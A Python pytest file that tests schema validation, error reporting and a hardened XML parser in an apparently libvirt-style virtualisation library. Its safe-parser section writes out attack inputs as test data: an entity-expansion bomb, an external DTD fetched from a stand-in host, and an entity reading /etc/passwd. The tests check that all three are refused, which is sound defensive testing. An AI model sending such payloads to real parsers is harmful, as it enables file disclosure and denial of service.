"""Schema loading, validation of every fixture, error reports, and the safe parser."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from hypothesis import given

from tests.xml import strategies
from tests.xml._support import DATA
from virtkit.errors import XMLError, XMLSchemaError
from virtkit.xml import _document, schema
from virtkit.xml.domain import parse_domain
from virtkit.xml.network import parse_network

CHECKOUT = Path(__file__).resolve().parents[2]


def _kind_of(path: Path) -> str:
    kind = path.parent.name
    if kind == "domain" and path.name.startswith("device-"):
        return "device"
    return kind


FIXTURES = sorted(p for p in DATA.glob("*/*.xml"))
VALID = [p for p in FIXTURES if not p.name.endswith("-invalid.xml")]
INVALID = [p for p in FIXTURES if p.name.endswith("-invalid.xml")]


def test_schemas_ship_inside_the_package() -> None:
    files = {p.name for p in schema.schema_dir().glob("*.rng")}
    assert files == set(schema.KINDS.values())
    # The checkout's top-level schemas/ is the same directory as the package's.
    checkout = CHECKOUT / "schemas"
    if checkout.exists():
        for name in files:
            assert (checkout / name).read_bytes() == (schema.schema_dir() / name).read_bytes()


def test_schemas_are_compiled_once() -> None:
    for kind in schema.KINDS:
        assert schema.get_schema(kind) is schema.get_schema(kind)


def test_unknown_kind() -> None:
    with pytest.raises(KeyError, match="kinds"):
        schema.schema_path("pool")


@pytest.mark.parametrize("kind", list(schema.KINDS))
def test_diagnostic_variants_compile(kind: str) -> None:
    # Built only when a document fails; make sure each one can be built.
    assert schema._get(kind).diagnostic() is not None


@pytest.mark.parametrize("path", VALID, ids=[f"{p.parent.name}/{p.name}" for p in VALID])
def test_every_valid_fixture_passes_its_schema(path: Path) -> None:
    kind = _kind_of(path)
    root = _document.parse_xml(path.read_bytes(), kind)
    schema.validate(kind, root)
    assert schema.is_valid(kind, root)


@pytest.mark.parametrize("path", INVALID, ids=[f"{p.parent.name}/{p.name}" for p in INVALID])
def test_every_invalid_fixture_fails(path: Path) -> None:
    kind = _kind_of(path)
    try:
        root = _document.parse_xml(path.read_bytes(), kind)
    except XMLError:
        return  # malformed, or a DTD: refused before the schema
    if schema.is_valid(kind, root):
        # Refused by the checks the parser makes beyond the schema (UUID, MAC,
        # ranges, netmask, file references): the parse tests cover those.
        return
    with pytest.raises(XMLSchemaError) as info:
        schema.validate(kind, root)
    err = info.value
    assert err.line is not None and err.element is not None
    assert f"line {err.line}" in err.message and f"<{err.element}>" in err.message


@pytest.mark.parametrize(
    ("doc", "line", "element", "words"),
    [
        ("<domain>\n<name>x</name>\n<memory>1</memory>\n<os><type>hvm</type></os>\n<devices>\n"
         "<disk type='network'><target dev='a'/></disk>\n</devices>\n</domain>", 6, "disk", "'network'"),
        ("<domain>\n<name>x</name>\n<memory>1</memory>\n<os>\n<type>hvm</type>\n<bogus/>\n</os>\n</domain>",
         6, "bogus", "not allowed inside <os>"),
        ("<domain>\n<name>x</name>\n<os><type>hvm</type></os>\n</domain>", 1, "domain", "<memory>"),
        ("<domain>\n<name>x</name>\n<name>y</name>\n<memory>1</memory>\n<os><type>hvm</type></os>\n</domain>",
         3, "name", "more often"),
        ("<domain>\n<name>x</name>\n<memory>1</memory>\n<os><type>hvm</type></os>\n"
         "<on_reboot>reboot</on_reboot>\n</domain>", 5, "on_reboot", "'reboot'"),
    ],
)
def test_error_report_names_line_and_element(doc: str, line: int, element: str, words: str) -> None:
    with pytest.raises(XMLSchemaError) as info:
        parse_domain(doc)
    assert (info.value.line, info.value.element) == (line, element)
    assert words in str(info.value)


def test_validation_from_many_threads() -> None:
    good = (DATA / "domain" / "docs-fv0-hvm.xml").read_bytes()
    bad = (DATA / "domain" / "bad-lifecycle-invalid.xml").read_bytes()
    failures: list[str] = []

    def work(i: int) -> None:
        for _ in range(30):
            try:
                parse_domain(good)
            except Exception as e:  # pragma: no cover - reported below
                failures.append(f"good: {e!r}")
            try:
                parse_domain(bad)
                failures.append("bad document accepted")
            except XMLSchemaError as e:
                if e.element != "on_crash":
                    failures.append(f"wrong report: {e}")

    threads = [threading.Thread(target=work, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert failures == []


# --------------------------------------------------------------- safe parser


def test_entities_are_not_expanded_and_dtds_are_refused() -> None:
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE network [\n <!ENTITY a "aaaaaaaaaa">\n'
        ' <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n]>\n'
        "<network><name>&c;</name></network>"
    )
    with pytest.raises(XMLError, match="DOCTYPE"):
        parse_network(laughs)


def test_external_entities_and_network_are_not_used() -> None:
    from lxml import etree  # type: ignore[import-untyped, unused-ignore]

    remote = ('<!DOCTYPE network SYSTEM "http://192.0.2.1/evil.dtd">'
              "<network><name>n</name></network>")
    local = ('<!DOCTYPE network [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
             "<network><name>&x;</name></network>")
    for doc in (remote, local):
        with pytest.raises(XMLError):
            parse_network(doc)
    # Even before virtkit refuses DTDs, the parser itself fetches nothing
    # from the network and expands no entity.
    with pytest.raises(etree.XMLSyntaxError, match="network"):
        etree.fromstring(remote.encode(), _document._parser())
    tree = etree.fromstring(local.encode(), _document._parser())
    assert "root:" not in etree.tostring(tree).decode()


def test_undeclared_entity_is_malformed() -> None:
    with pytest.raises(XMLError) as info:
        parse_network("<network>\n<name>&nope;</name></network>")
    assert info.value.line == 2


def test_comments_and_processing_instructions_are_dropped() -> None:
    cfg = parse_network("<?xml version='1.0'?><!-- a --><network><?pi x?><name>n<!-- b --></name></network>")
    assert cfg.name == "n"


# ---------------------------------------------------------------- verbatim


@given(strategies.verbatim_elements(["a", "item"]))
def test_verbatim_is_stable(fragment: str) -> None:
    assert _document.verbatim(_document.parse_fragment(fragment)) == fragment


def test_verbatim_declares_only_used_namespaces() -> None:
    root = _document.parse_xml(
        "<domain xmlns:q='urn:q' xmlns:unused='urn:u'><q:x a=\"it's\"/><plain b='&quot;'/></domain>", "domain"
    )
    q, plain = (_document.verbatim(el) for el in root)
    assert q == "<q:x xmlns:q='urn:q' a='it&apos;s'/>"
    assert plain == "<plain b='\"'/>"
